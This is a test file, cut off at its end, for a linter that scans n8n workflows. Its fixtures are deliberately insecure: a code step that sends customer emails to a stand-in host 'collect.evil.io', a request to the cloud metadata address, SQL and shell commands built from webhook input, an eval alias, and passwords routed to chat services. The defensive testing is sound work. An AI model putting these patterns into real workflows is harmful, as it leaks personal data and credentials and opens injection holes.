/** Leaks, injections and decoys as n8n would save them: the linter has to see them through the importer. */
import { expect, it } from 'vitest';
import { importN8n } from '../../../app/import/n8n/import-n8n.ts';
import { lintFlow } from '../../../app/lint/run.ts';
import type { Json, JsonObject } from '../../../app/kernel/json.ts';
import { fakeToken as tok } from '../kit/steps.ts';

/** Name, type (`L.` for those of the AI package), parameters, and what else the node says. */
type Node = readonly [string, string, JsonObject, JsonObject?];
const kinds: Readonly<Record<string, string>> = { model: 'ai_languageModel', tool: 'ai_tool', memory: 'ai_memory' };

/** `A#1 > B#0` by outputs and inputs, `A -tool> B` for parts. */
function wf(nodes: readonly Node[], wires: readonly string[], more: JsonObject = {}): JsonObject {
  const connections: Record<string, Record<string, { node: string; type: string; index: number }[][]>> = {};
  for (const wire of wires) {
    const [, from = '', output = '0', part, to = '', input = '0'] = /^(.+?)(?:#(\d+))? (?:-(\w+))?> (.+?)(?:#(\d+))?$/.exec(wire) ?? [];
    const kind = part === undefined ? 'main' : (kinds[part] ?? 'main');
    const outputs = ((connections[from] ??= {})[kind] ??= []);
    while (outputs.length <= Number(output)) outputs.push([]);
    outputs[Number(output)]?.push({ node: to, type: kind, index: Number(input) });
  }
  return {
    name: 'wf',
    connections,
    nodes: nodes.map(([name, type, parameters, extra = {}], index) => ({
      id: `n${index}`,
      name,
      type: type.startsWith('L.') ? `@n8n/n8n-nodes-langchain.${type.slice(2)}` : `n8n-nodes-base.${type}`,
      typeVersion: 1,
      position: [index * 200, 0],
      parameters,
      ...extra,
    })),
    ...more,
  };
}

const login = (type: string): JsonObject => ({ credentials: { [type]: { id: type, name: type } } });
const hook: Node = ['Webhook', 'webhook', { path: 'in', httpMethod: 'POST' }, { typeVersion: 2 }];
const hubspot: Node = [
  'HubSpot',
  'hubspot',
  { resource: 'contact', operation: 'getAll', returnAll: true, additionalFields: {} },
  { typeVersion: 2.1, ...login('hubspotApi') },
];
const start: Node = ['Start', 'manualTrigger', {}];
const oai = (prompt: string): Node => [
  'OpenAI',
  'L.openAi',
  { modelId: { __rl: true, mode: 'list', value: 'gpt-4o' }, messages: { values: [{ content: prompt }] } },
  { typeVersion: 1.8, ...login('openAiApi') },
];
const agent = (text: string, systemMessage = 'You are helpful'): Node => [
  'Agent',
  'L.agent',
  { promptType: 'define', text, options: { systemMessage } },
  { typeVersion: 1.7 },
];
const model: Node = [
  'Model',
  'L.lmChatOpenAi',
  { model: { __rl: true, mode: 'list', value: 'gpt-4o' } },
  { typeVersion: 1.2, ...login('openAiApi') },
];
const gmailTool = (): Node => [
  'Gmail Tool',
  'gmailTool',
  { sendTo: '={{ $fromAI("to","") }}', subject: 'x', message: '={{ $fromAI("msg","") }}' },
  { typeVersion: 2.1, ...login('gmailOAuth2') },
];
const gmail = (more: JsonObject): Node => [
  'Gmail',
  'gmail',
  { sendTo: 'a@example.com', subject: 'x', message: 'x', ...more },
  { typeVersion: 2.1, ...login('gmailOAuth2') },
];
const pg = (query: string, more: JsonObject = {}, name = 'Postgres'): Node => [
  name,
  'postgres',
  { operation: 'executeQuery', query, options: {}, ...more },
  { typeVersion: 2.5, ...login('postgres') },
];
const set = (values: Readonly<Record<string, string>>, more: JsonObject = {}, name = 'Set'): Node => [
  name,
  'set',
  {
    assignments: {
      assignments: Object.entries(values).map(([field, value], index) => ({ id: String(index), name: field, value, type: 'string' })),
    },
    options: {},
    ...more,
  },
  { typeVersion: 3.4 },
];
const code = (jsCode: string): Node => ['Code', 'code', { jsCode }, { typeVersion: 2 }];
const http = (more: JsonObject): Node => [
  'HTTP',
  'httpRequest',
  { url: 'https://api.acme.io/x', options: {}, ...more },
  { typeVersion: 4.2 },
];
const post = (jsonBody: string, more: JsonObject = {}): Node =>
  http({ method: 'POST', sendBody: true, specifyBody: 'json', jsonBody, ...more });
const slack = (text: string): Node => [
  'Slack',
  'slack',
  { select: 'channel', channelId: { __rl: true, mode: 'name', value: '#x' }, text },
  { typeVersion: 2.2, ...login('slackApi') },
];
const tele = (text: string): Node => ['Telegram', 'telegram', { chatId: '1', text }, { typeVersion: 1.2, ...login('telegramApi') }];
const IF = (leftValue: string): Node => [
  'If',
  'if',
  {
    conditions: {
      options: {},
      combinator: 'and',
      conditions: [{ id: '1', leftValue, rightValue: 'x', operator: { type: 'string', operation: 'equals' } }],
    },
  },
  { typeVersion: 2 },
];

/** What it is, the workflow, what must be said (`rule@node`), what must not. */
const cases: readonly (readonly [string, Json, readonly string[], (readonly string[])?])[] = [
  ['email to openai', wf([hook, oai('=Write to {{ $json.body.email }}')], ['Webhook > OpenAI']), ['DF001@OpenAI']],
  [
    'email renamed by set',
    wf([hook, set({ who: '={{ $json.body.email }}' }), oai('=Hi {{ $json.who }}')], ['Webhook > Set', 'Set > OpenAI']),
    ['DF001@OpenAI'],
  ],
  [
    'set drops, only text',
    wf([hook, set({ t: '={{ $json.body.product }}' }), oai('=Hi {{ $json.t }}')], ['Webhook > Set', 'Set > OpenAI']),
    [],
    ['DF001@OpenAI'],
  ],
  [
    'code maps',
    wf(
      [hook, code('return $input.all().map(i => ({ json: { m: i.json.body.email } }));'), oai('=Hi {{ $json.m }}')],
      ['Webhook > Code', 'Code > OpenAI'],
    ),
    ['DF001@OpenAI'],
  ],
  [
    'code rest',
    wf(
      [
        hook,
        code('return $input.all().map(({ json }) => { const { email, phone, ...rest } = json.body; return { json: rest }; });'),
        oai('=Hi {{ $json.product }}'),
      ],
      ['Webhook > Code', 'Code > OpenAI'],
    ),
    [],
    ['DF001@OpenAI'],
  ],
  [
    'by node name',
    wf([hook, http({}), oai("=Hi {{ $('Webhook').item.json.body.email }}")], ['Webhook > HTTP', 'HTTP > OpenAI']),
    ['DF001@OpenAI'],
  ],
  [
    'code by node name',
    wf(
      [hook, http({}), code("return [{ json: { m: $('Webhook').first().json.body.email } }];"), oai('=Hi {{ $json.m }}')],
      ['Webhook > HTTP', 'HTTP > Code', 'Code > OpenAI'],
    ),
    ['DF001@OpenAI'],
  ],
  [
    'http to openai',
    wf(
      [
        hook,
        post('={"model":"gpt-4o","messages":[{"role":"user","content":"{{ $json.body.email }}"}]}', {
          url: 'https://api.openai.com/v1/chat/completions',
        }),
      ],
      ['Webhook > HTTP'],
    ),
    ['DF001@HTTP'],
  ],
  [
    'http to unknown completions',
    wf(
      [
        hook,
        post('={"messages":[{"role":"user","content":"{{ $json.body.email }}"}]}', { url: 'https://llm.acme-ai.io/v1/chat/completions' }),
      ],
      ['Webhook > HTTP'],
    ),
    ['DF001@HTTP'],
  ],
  [
    'agent with db tool',
    wf(
      [hook, agent('={{ $json.body.text }}'), model, pg('SELECT email, iban FROM customers', {}, 'DB')],
      ['Webhook > Agent', 'Model -model> Agent', 'DB -tool> Agent'],
    ),
    [],
  ],
  [
    'lethal trifecta',
    wf(
      [
        hook,
        agent('={{ $json.body.text }}'),
        model,
        [
          'DB',
          'postgresTool',
          { operation: 'executeQuery', query: 'SELECT email, iban FROM customers', options: {} },
          { typeVersion: 2.5, credentials: { postgres: { id: '3', name: 'p' } } },
        ],
        gmailTool(),
      ],
      ['Webhook > Agent', 'Model -model> Agent', 'DB -tool> Agent', 'Gmail Tool -tool> Agent'],
    ),
    ['DF004@Agent', 'AI001@Gmail Tool'],
  ],
  [
    'injection to write',
    wf(
      [
        hook,
        oai('=Do {{ $json.body.text }}'),
        pg('INSERT INTO t VALUES (1)', {
          operation: 'insert',
          table: { __rl: true, mode: 'name', value: 'orders' },
          columns: { mappingMode: 'defineBelow', value: { note: '={{ $json.message.content }}' } },
        }),
      ],
      ['Webhook > OpenAI', 'OpenAI > Postgres'],
    ),
    ['AI001@Postgres'],
  ],
  [
    'injection to slack',
    wf([hook, oai('=Do {{ $json.body.text }}'), slack('={{ $json.message.content }}')], ['Webhook > OpenAI', 'OpenAI > Slack']),
    ['AI001@Slack'],
  ],
  [
    'fixed text after model',
    wf([hook, oai('=Do {{ $json.body.text }}'), slack('A request came in')], ['Webhook > OpenAI', 'OpenAI > Slack']),
    [],
    ['AI001@Slack'],
  ],
  ['sql built', wf([hook, pg("=SELECT * FROM t WHERE a = '{{ $json.body.name }}'")], ['Webhook > Postgres']), ['CN014@Postgres']],
  [
    'sql bound',
    wf([hook, pg('SELECT * FROM t WHERE a = $1', { options: { queryReplacement: '={{ $json.body.name }}' } })], ['Webhook > Postgres']),
    [],
    ['CN014@Postgres'],
  ],
  [
    'ai sql',
    wf([hook, oai('=Write SQL for {{ $json.body.q }}'), pg('={{ $json.message.content }}')], ['Webhook > OpenAI', 'OpenAI > Postgres']),
    ['AI003@Postgres'],
  ],
  ['exec', wf([hook, ['Cmd', 'executeCommand', { command: '=convert {{ $json.body.file }}' }]], ['Webhook > Cmd']), ['CN014@Cmd']],
  ['host from body', wf([hook, http({ url: '={{ $json.body.callback }}' })], ['Webhook > HTTP']), ['CN005@HTTP']],
  [
    'host from body via set',
    wf([hook, set({ u: '={{ $json.body.callback }}' }), http({ url: '=https://{{ $json.u }}/x' })], ['Webhook > Set', 'Set > HTTP']),
    ['CN005@HTTP'],
  ],
  [
    'key in header',
    wf(
      [start, http({ sendHeaders: true, headerParameters: { parameters: [{ name: 'Authorization', value: 'Bearer ' + tok('', 40) }] } })],
      ['Start > HTTP'],
    ),
    ['CN007@HTTP'],
  ],
  [
    'key in query',
    wf([start, http({ sendQuery: true, queryParameters: { parameters: [{ name: 'apikey', value: tok('', 32) }] } })], ['Start > HTTP']),
    ['CN007@HTTP'],
  ],
  [
    'key in code pieces',
    wf([start, code(`const p = ['${tok('sk-proj-', 20)}', '${tok('', 24)}']; return [{ json: { k: p.join('') } }];`)], ['Start > Code']),
    ['CN007@Code'],
  ],
  [
    'key in expression pieces',
    wf([start, set({ k: `={{ '${tok('sk-proj-', 14)}' + '${tok('', 26)}' }}` })], ['Start > Set']),
    ['CN007@Set'],
  ],
  ['key in sticky', wf([start, ['Note', 'stickyNote', { content: 'use ' + tok('ghp_', 36) }]], []), ['CN007@Note']],
  [
    'key in pinData',
    wf([start, http({})], ['Start > HTTP'], { pinData: { HTTP: [{ json: { token: tok('ghp_', 36) } }] } }),
    ['CN007@HTTP'],
  ],
  [
    'key in node notes',
    wf(
      [
        start,
        ['HTTP', 'httpRequest', { url: 'https://api.acme.io/x', options: {} }, { typeVersion: 4.2, notes: 'key ' + tok('ghp_', 36) }],
      ],
      ['Start > HTTP'],
    ),
    ['CN007@HTTP'],
  ],
  [
    'password to telegram',
    wf([start, pg('SELECT login, password FROM users'), tele('={{ $json.password }}')], ['Start > Postgres', 'Postgres > Telegram']),
    ['DF003@Telegram'],
  ],
  ['env secret to slack', wf([start, slack('={{ $env.DB_PASSWORD }}')], ['Start > Slack']), ['DF003@Slack']],
  [
    'health to sheets',
    wf(
      [
        [
          'Form',
          'formTrigger',
          { formTitle: 'x', formFields: { values: [{ fieldLabel: 'Email', fieldType: 'email' }, { fieldLabel: 'Diagnosis' }] } },
          { typeVersion: 2.2 },
        ],
        oai('=Sum up {{ $json.Diagnosis }}'),
      ],
      ['Form > OpenAI'],
    ),
    ['DF001@OpenAI'],
  ],
  [
    'if one branch masks',
    wf(
      [hook, IF('={{ $json.body.kind }}'), set({ 'body.email': '***' }, { includeOtherFields: true }), oai('=Hi {{ $json.body.email }}')],
      ['Webhook > If', 'If#0 > Set', 'If#1 > OpenAI', 'Set > OpenAI'],
    ),
    ['DF001@OpenAI'],
  ],
  [
    'both branches mask',
    wf(
      [
        hook,
        IF('={{ $json.body.kind }}'),
        set({ 'body.email': '***' }, { includeOtherFields: true }),
        set({ 'body.email': '-' }, { includeOtherFields: true }, 'Set2'),
        oai('=Hi {{ $json.body.email }}'),
      ],
      ['Webhook > If', 'If#0 > Set', 'If#1 > Set2', 'Set > OpenAI', 'Set2 > OpenAI'],
    ),
    [],
    ['DF001@OpenAI'],
  ],
  [
    'a keyed hash of it, and nothing else',
    wf(
      [
        hook,
        [
          'Crypto',
          'crypto',
          { action: 'hmac', type: 'SHA256', value: '={{ $json.body.email }}', secret: 'x', dataPropertyName: 'who' },
          { typeVersion: 1 },
        ],
        oai('=Hi {{ $json.who }}'),
      ],
      ['Webhook > Crypto', 'Crypto > OpenAI'],
    ),
    [],
    ['DF001@OpenAI'],
  ],
  [
    'a keyed hash beside it',
    wf(
      [
        hook,
        [
          'Crypto',
          'crypto',
          { action: 'hmac', type: 'SHA256', value: '={{ $json.body.email }}', secret: 'x', dataPropertyName: 'who' },
          { typeVersion: 1 },
        ],
        oai('=Hi {{ $json.body.email }}'),
      ],
      ['Webhook > Crypto', 'Crypto > OpenAI'],
    ),
    ['DF001@OpenAI'],
  ],
  [
    'a bare checksum can be guessed back',
    wf(
      [
        hook,
        [
          'Crypto',
          'crypto',
          { action: 'hash', type: 'MD5', value: '={{ $json.body.email }}', dataPropertyName: 'who' },
          { typeVersion: 1 },
        ],
        oai('=Hi {{ $json.who }}'),
      ],
      ['Webhook > Crypto', 'Crypto > OpenAI'],
    ),
    ['DF001@OpenAI'],
  ],
  [
    'an alias of console',
    wf(
      [start, pg('SELECT password FROM users'), code('const { log } = console; log($json.password); return [{ json: { ok: true } }];')],
      ['Start > Postgres', 'Postgres > Code'],
    ),
    ['DF003@Code'],
  ],
  [
    'printed where nobody can follow',
    wf(
      [
        start,
        pg('SELECT password FROM users'),
        code('const pick = (k) => (o) => o[k]; console.log(pick("password")($json)); return [{ json: { ok: true } }];'),
      ],
      ['Start > Postgres', 'Postgres > Code'],
    ),
    ['DF003@Code'],
  ],
  [
    'loop v3',
    wf(
      [
        start,
        pg('SELECT email FROM customers'),
        ['Loop', 'splitInBatches', { options: {} }, { typeVersion: 3 }],
        oai('=Hi {{ $json.email }}'),
      ],
      ['Start > Postgres', 'Postgres > Loop', 'Loop#1 > OpenAI', 'OpenAI > Loop'],
    ),
    ['DF001@OpenAI'],
  ],
  [
    'merge',
    wf(
      [
        hook,
        http({}),
        ['Merge', 'merge', { mode: 'combine', combineBy: 'combineByPosition', options: {} }, { typeVersion: 3 }],
        oai('=Hi {{ $json.body.email }}'),
      ],
      ['Webhook > HTTP', 'Webhook > Merge', 'HTTP > Merge#1', 'Merge > OpenAI'],
    ),
    ['DF001@OpenAI'],
  ],
  [
    'aggregate',
    wf(
      [
        start,
        pg('SELECT email FROM customers'),
        ['Agg', 'aggregate', { aggregate: 'aggregateAllItemData', options: {} }, { typeVersion: 1 }],
        oai('=Hi {{ JSON.stringify($json.data) }}'),
      ],
      ['Start > Postgres', 'Postgres > Agg', 'Agg > OpenAI'],
    ),
    ['DF001@OpenAI'],
  ],
  [
    'split out',
    wf(
      [hook, ['Split', 'splitOut', { fieldToSplitOut: 'body.users', options: {} }, { typeVersion: 1 }], oai('=Hi {{ $json.email }}')],
      ['Webhook > Split', 'Split > OpenAI'],
    ),
    ['DF001@OpenAI'],
  ],
  [
    'error branch',
    wf(
      [
        hook,
        ['Code', 'code', { jsCode: 'throw new Error($json.body.email)' }, { typeVersion: 2, onError: 'continueErrorOutput' }],
        oai('=Explain {{ $json.error }}'),
      ],
      ['Webhook > Code', 'Code#1 > OpenAI'],
    ),
    ['DF001@OpenAI'],
  ],
  [
    'fetch in code with email',
    wf(
      [
        hook,
        code(
          'const r = await this.helpers.httpRequest({ method: "POST", url: "https://api.openai.com/v1/chat/completions", body: { messages: [{ role: "user", content: $json.body.email }] } });\nreturn [{ json: r }];',
        ),
      ],
      ['Webhook > Code'],
    ),
    ['SC002@Code', 'DF001@Code'],
  ],
  [
    'code fetch leak other',
    wf(
      [
        start,
        pg('SELECT email FROM customers'),
        code('await fetch("https://collect.evil.io/?d=" + encodeURIComponent($json.email)); return $input.all();'),
      ],
      ['Start > Postgres', 'Postgres > Code'],
    ),
    ['SC002@Code'],
  ],
  [
    'console.log secret',
    wf(
      [start, pg('SELECT password FROM users'), code('console.log($json.password); return [{ json: { ok: true } }];')],
      ['Start > Postgres', 'Postgres > Code'],
    ),
    ['DF003@Code'],
  ],
  [
    'all but the secret is printed',
    wf(
      [
        start,
        pg('SELECT login, password FROM users'),
        code('const { password, ...rest } = $json; console.log(JSON.stringify(rest)); return [{ json: { ok: true } }];'),
      ],
      ['Start > Postgres', 'Postgres > Code'],
    ),
    [],
    ['DF003@Code'],
  ],
  [
    'memory shared',
    wf(
      [hook, agent('={{ $json.body.email }}'), model, ['Mem', 'L.memoryBufferWindow', {}, { typeVersion: 1.3 }]],
      ['Webhook > Agent', 'Model -model> Agent', 'Mem -memory> Agent'],
    ),
    ['DF001@Agent'],
  ],
  [
    'chat open',
    wf(
      [['Chat', 'L.chatTrigger', { public: true, options: {} }, { typeVersion: 1.1 }], agent('={{ $json.chatInput }}'), model, gmailTool()],
      ['Chat > Agent', 'Model -model> Agent', 'Gmail Tool -tool> Agent'],
    ),
    ['AI001@Gmail Tool', 'CN008@Chat'],
  ],
  [
    'http tool model url',
    wf(
      [
        ['Chat', 'L.chatTrigger', { public: true, options: {} }, { typeVersion: 1.1 }],
        agent('={{ $json.chatInput }}'),
        model,
        ['Web', 'httpRequestTool', { url: '={{ $fromAI("url","") }}', options: {} }, { typeVersion: 4.2 }],
      ],
      ['Chat > Agent', 'Model -model> Agent', 'Web -tool> Agent'],
    ),
    ['CN005@Web'],
  ],
  [
    'system prompt from body',
    wf([hook, agent('x', '=You are {{ $json.body.persona }}'), model], ['Webhook > Agent', 'Model -model> Agent']),
    ['AI002@Agent'],
  ],
  [
    'respond all',
    wf(
      [
        hook,
        pg('SELECT password FROM users'),
        ['Respond', 'respondToWebhook', { respondWith: 'allIncomingItems', options: {} }, { typeVersion: 1.1 }],
      ],
      ['Webhook > Postgres', 'Postgres > Respond'],
    ),
    ['DF003@Respond'],
  ],
  ['plain http', wf([start, http({ url: 'http://api.acme.io/x' })], ['Start > HTTP']), ['CN001@HTTP']],
  ['tls off', wf([start, http({ options: { allowUnauthorizedCerts: true } })], ['Start > HTTP']), ['CN003@HTTP']],
  ['metadata', wf([start, http({ url: 'http://169.254.169.254/latest' })], ['Start > HTTP']), ['CN004@HTTP']],
  ['eval alias', wf([hook, code('const e = eval; return [{ json: { v: e($json.body.x) } }];')], ['Webhook > Code']), ['SC001@Code']],
  [
    'subworkflow gets email',
    wf(
      [hook, ['Sub', 'executeWorkflow', { workflowId: { __rl: true, mode: 'id', value: 'abc' }, options: {} }, { typeVersion: 1.2 }]],
      ['Webhook > Sub'],
    ),
    [],
  ],
  [
    'disabled model',
    wf(
      [
        hook,
        [
          'OpenAI',
          'L.openAi',
          { modelId: { __rl: true, mode: 'list', value: 'gpt-4o' }, messages: { values: [{ content: '=Hi {{ $json.body.email }}' }] } },
          { typeVersion: 1.8, disabled: true },
        ],
      ],
      ['Webhook > OpenAI'],
    ),
    [],
    ['DF001@OpenAI'],
  ],
  [
    'discord confidential',
    wf(
      [
        start,
        pg('SELECT margin, salary FROM staff'),
        [
          'Discord',
          'discord',
          { resource: 'message', content: '={{ $json.salary }}' },
          { typeVersion: 2, credentials: { discordBotApi: { id: '9', name: 'd' } } },
        ],
      ],
      ['Start > Postgres', 'Postgres > Discord'],
    ),
    ['DF008@Discord'],
  ],
  [
    'a key that was sent does not come back',
    wf(
      [
        hook,
        set({ key: '={{ $json.body.apiKey }}', id: '1' }),
        http({ sendHeaders: true, headerParameters: { parameters: [{ name: 'Authorization', value: '=Bearer {{ $json.key }}' }] } }),
        slack('=Job {{ $json.job_id }}'),
      ],
      ['Webhook > Set', 'Set > HTTP', 'HTTP > Slack'],
    ),
    [],
    ['DF003@Slack'],
  ],
  [
    'a key that a service gave',
    wf([hook, http({}), slack('=Key {{ $json.access_token }}')], ['Webhook > HTTP', 'HTTP > Slack']),
    ['DF003@Slack'],
  ],
  [
    'the number of a conversation',
    wf(
      [['Chat', 'L.chatTrigger', { public: true, options: {} }, { typeVersion: 1.1 }], slack('=In {{ $json.sessionId }}')],
      ['Chat > Slack'],
    ),
    [],
    ['DF003@Slack'],
  ],
  [
    'a header to fill in',
    wf(
      [start, http({ sendHeaders: true, headerParameters: { parameters: [{ name: 'Authorization', value: 'Bearer YOUR_TOKEN' }] } })],
      ['Start > HTTP'],
    ),
    [],
    ['CN007@HTTP', 'CN012@HTTP'],
  ],
  [
    'a header in angle brackets',
    wf(
      [start, http({ sendHeaders: true, headerParameters: { parameters: [{ name: 'Authorization', value: 'Bearer <token>' }] } })],
      ['Start > HTTP'],
    ),
    [],
    ['CN007@HTTP', 'CN012@HTTP'],
  ],
  [
    'a header of crosses',
    wf(
      [start, http({ sendHeaders: true, headerParameters: { parameters: [{ name: 'Authorization', value: 'Bearer XXXXXXXXXXXX' }] } })],
      ['Start > HTTP'],
    ),
    [],
    ['CN007@HTTP', 'CN012@HTTP'],
  ],
  [
    'addresses in a sample, under a name that says nothing',
    wf([start, http({}), oai('=Hi {{ $json.x1 }}')], ['Start > HTTP', 'HTTP > OpenAI'], {
      pinData: { HTTP: [{ json: { x1: 'ada@example.com', x2: 'blue' } }, { json: { x1: 'bob@example.org', x2: 'red' } }] },
    }),
    ['DF001@OpenAI'],
  ],
  [
    'the field beside them',
    wf([start, http({}), oai('=Hi {{ $json.x2 }}')], ['Start > HTTP', 'HTTP > OpenAI'], {
      pinData: { HTTP: [{ json: { x1: 'ada@example.com', x2: 'blue' } }, { json: { x1: 'bob@example.org', x2: 'red' } }] },
    }),
    [],
    ['DF001@OpenAI'],
  ],
  [
    'an address once in a longer list of words',
    wf([start, http({}), oai('=Hi {{ $json.x1 }}')], ['Start > HTTP', 'HTTP > OpenAI'], {
      pinData: { HTTP: [{ json: { x1: 'blue' } }, { json: { x1: 'red' } }, { json: { x1: 'ada@example.com' } }] },
    }),
    [],
    ['DF001@OpenAI'],
  ],
  [
    'a sample of a hook',
    wf([hook, oai('=Hi {{ $json.body.data[0].v }}')], ['Webhook > OpenAI'], {
      pinData: { Webhook: [{ json: { body: { data: [{ v: 'DE89 3704 0044 0532 0130 00' }] } } }] },
    }),
    ['DF001@OpenAI'],
  ],
  [
    'how many, yes or no, and a number inside a text',
    wf(
      [
        hook,
        code(
          'const b = $input.first().json.body; return [{ json: { line: "Mails: " + [b.email].length + ", known: " + (b.email !== "") + ", price " + Number(b.price) } }];',
        ),
        oai('=Say {{ $json.line }}, {{ $json.line.length }}'),
      ],
      ['Webhook > Code', 'Code > OpenAI'],
    ),
    [],
    ['DF001@OpenAI'],
  ],
  [
    'the same beside the address',
    wf(
      [
        hook,
        code('const b = $input.first().json.body; return [{ json: { line: "Known: " + (b.email !== "") + " " + b.email } }];'),
        oai('=Say {{ $json.line }}'),
      ],
      ['Webhook > Code', 'Code > OpenAI'],
    ),
    ['DF001@OpenAI'],
  ],
  [
    'a card as a number inside a text',
    wf(
      [hook, code('return [{ json: { line: "Card " + Number($json.body.cardNumber) } }];'), oai('=Say {{ $json.line }}')],
      ['Webhook > Code', 'Code > OpenAI'],
    ),
    ['DF001@OpenAI'],
  ],
  [
    'a list of yes and no',
    wf(
      [
        hook,
        code('const all = []; all.push(Boolean($json.body.email)); return [{ json: { line: all.concat([1]).join(" ") } }];'),
        oai('=Say {{ $json.line }}'),
      ],
      ['Webhook > Code', 'Code > OpenAI'],
    ),
    [],
    ['DF001@OpenAI'],
  ],
  [
    'a number of a model inside a text',
    wf(
      [
        hook,
        oai('=Rate {{ $json.body.text }}'),
        code('return [{ json: { line: `Score: ${Number($json.message.content)}` } }];'),
        slack('={{ $json.line }}'),
      ],
      ['Webhook > OpenAI', 'OpenAI > Code', 'Code > Slack'],
    ),
    [],
    ['AI001@Slack'],
  ],
  [
    'a comparison inside a text',
    wf([hook, slack('=Known: {{ $json.body.password === "x" ? "yes" : "no" }}, {{ $json.body.token.length }} signs')], ['Webhook > Slack']),
    [],
    ['DF003@Slack'],
  ],
  [
    'the secret beside the comparison',
    wf([hook, slack('={{ $json.body.password === "x" ? "yes" : $json.body.password }}')], ['Webhook > Slack']),
    ['DF003@Slack'],
  ],
  ['a telephone number as a number', wf([hook, oai('=Call {{ Number($json.body.phone) }}')], ['Webhook > OpenAI']), ['DF001@OpenAI']],
  ['a place, rounded', wf([hook, oai('=Near {{ $json.body.latitude.round(4) }}')], ['Webhook > OpenAI']), ['DF001@OpenAI']],
  [
    'a finding of a laboratory, times one',
    wf([hook, oai('=Value {{ $json.body.bloodPressure * 1 }}')], ['Webhook > OpenAI']),
    ['DF001@OpenAI'],
  ],
  [
    'telephone numbers of many, as numbers',
    wf([hook, oai('=Call {{ $json.body.people.map(p => +p.phone).join() }}')], ['Webhook > OpenAI']),
    ['DF001@OpenAI'],
  ],
  [
    'a telephone number as a number of a script',
    wf(
      [hook, code('return [{ json: { line: "Call " + Number($json.body.phone) } }];'), oai('=Say {{ $json.line }}')],
      ['Webhook > Code', 'Code > OpenAI'],
    ),
    ['DF001@OpenAI'],
  ],
  [
    'how many telephone numbers, where a sign is, and a price',
    wf(
      [
        hook,
        oai(
          '=Has {{ $json.body.phones.length * 1 }}, at {{ $json.body.phone.indexOf("+") }}, {{ Number($json.body.phone) > 5 }}, {{ $json.body.price / 12 }}',
        ),
      ],
      ['Webhook > OpenAI'],
    ),
    [],
    ['DF001@OpenAI'],
  ],
  [
    'a choice of a form, posted by hand',
    wf(
      [
        [
          'Form',
          'formTrigger',
          {
            formTitle: 'x',
            formFields: { values: [{ fieldLabel: 'Kind', fieldType: 'dropdown', fieldOptions: { values: [{ option: 'a' }] } }] },
          },
          { typeVersion: 2.2 },
        ],
        oai('=Do {{ $json.Kind }}'),
        slack('={{ $json.message.content }}'),
      ],
      ['Form > OpenAI', 'OpenAI > Slack'],
    ),
    ['AI001@Slack'],
  ],
  [
    'a number of a form',
    wf(
      [
        [
          'Form',
          'formTrigger',
          { formTitle: 'x', formFields: { values: [{ fieldLabel: 'Count', fieldType: 'number' }] } },
          { typeVersion: 2.2 },
        ],
        oai('=Do {{ $json.Count }}'),
        slack('={{ $json.message.content }}'),
      ],
      ['Form > OpenAI', 'OpenAI > Slack'],
    ),
    [],
    ['AI001@Slack'],
  ],
  [
    'a number of an outsider beside a text of the house',
    wf(
      [
        start,
        pg('SELECT note FROM tasks'),
        oai('=Rate {{ $json.note }} by {{ Number($("Hook").item.json.body.n) }}'),
        slack('={{ $json.message.content }}'),
        ['Hook', 'webhook', { path: 'in2', httpMethod: 'POST' }, { typeVersion: 2 }],
      ],
      ['Start > Postgres', 'Hook > Postgres', 'Postgres > OpenAI', 'OpenAI > Slack'],
    ),
    [],
    ['AI001@Slack'],
  ],
  [
    'a text of an outsider beside it',
    wf(
      [
        start,
        pg('SELECT note FROM tasks'),
        oai('=Rate {{ $json.note }} by {{ $("Hook").item.json.body.n }}'),
        slack('={{ $json.message.content }}'),
        ['Hook', 'webhook', { path: 'in2', httpMethod: 'POST' }, { typeVersion: 2 }],
      ],
      ['Start > Postgres', 'Hook > Postgres', 'Postgres > OpenAI', 'OpenAI > Slack'],
    ),
    ['AI001@Slack'],
  ],
  [
    'bytes become text',
    wf(
      [hook, oai('=Do {{ String.fromCharCode(...$json.body.codes.map(c => c * 1)) }}'), slack('={{ $json.message.content }}')],
      ['Webhook > OpenAI', 'OpenAI > Slack'],
    ),
    ['AI001@Slack'],
  ],
  [
    'bytes stay numbers',
    wf(
      [hook, oai('=Do {{ $json.body.codes.map(c => c * 1) }}'), slack('={{ $json.message.content }}')],
      ['Webhook > OpenAI', 'OpenAI > Slack'],
    ),
    [],
    ['AI001@Slack'],
  ],
  [
    'bytes become text in a script',
    wf(
      [
        hook,
        code('return [{ json: { t: `${Buffer.from($json.body.codes.map(c => Number(c)))}` } }];'),
        oai('=Do {{ $json.t }}'),
        slack('={{ $json.message.content }}'),
      ],
      ['Webhook > Code', 'Code > OpenAI', 'OpenAI > Slack'],
    ),
    ['AI001@Slack'],
  ],
  [
    'bytes stay numbers in a script',
    wf(
      [
        hook,
        code('return [{ json: { t: `${$json.body.codes.map(c => Number(c))}` } }];'),
        oai('=Do {{ $json.t }}'),
        slack('={{ $json.message.content }}'),
      ],
      ['Webhook > Code', 'Code > OpenAI', 'OpenAI > Slack'],
    ),
    [],
    ['AI001@Slack'],
  ],
  [
    'a login in the query beside a header to fill in',
    wf(
      [
        start,
        http({
          url: `https://api.acme.io/x?auth=${tok('', 24)}`,
          sendHeaders: true,
          headerParameters: { parameters: [{ name: 'Authorization', value: 'Bearer YOUR_TOKEN' }] },
        }),
      ],
      ['Start > HTTP'],
    ),
    ['CN012@HTTP'],
  ],
  [
    'a login in a query row beside it',
    wf(
      [
        start,
        http({
          sendQuery: true,
          queryParameters: { parameters: [{ name: 'api_key', value: tok('', 24) }] },
          url: 'https://api.acme.io/x?key=YOUR_API_KEY',
        }),
      ],
      ['Start > HTTP'],
    ),
    ['CN012@HTTP'],
  ],
  [
    'a login without a colon in front of the host',
    wf(
      [
        start,
        http({
          url: `https://${tok('', 24)}@api.acme.io/x`,
          sendHeaders: true,
          headerParameters: { parameters: [{ name: 'Authorization', value: 'Bearer YOUR_TOKEN' }] },
        }),
      ],
      ['Start > HTTP'],
    ),
    ['CN012@HTTP'],
  ],
  [
    'a key to fill in, beside a page and a name that is filled in',
    wf(
      [
        start,
        http({
          url: 'https://api.acme.io/x?key=YOUR_API_KEY&page=2',
          sendQuery: true,
          queryParameters: { parameters: [{ name: 'token', value: '={{ $json.t }}' }] },
        }),
      ],
      ['Start > HTTP'],
    ),
    [],
    ['CN012@HTTP'],
  ],
  [
    'a test copies the item into what it then takes it out of',
    wf([hubspot, oai("=Hi {{ (o => Object.assign(o, $json) ? o.properties : '')({}) }}")], ['HubSpot > OpenAI']),
    ['DF001@OpenAI'],
  ],
  [
    'a test puts the item into a list',
    wf([hubspot, oai("=Hi {{ (m => { if (m.push($json)) { return m[0]; } return ''; })([]) }}")], ['HubSpot > OpenAI']),
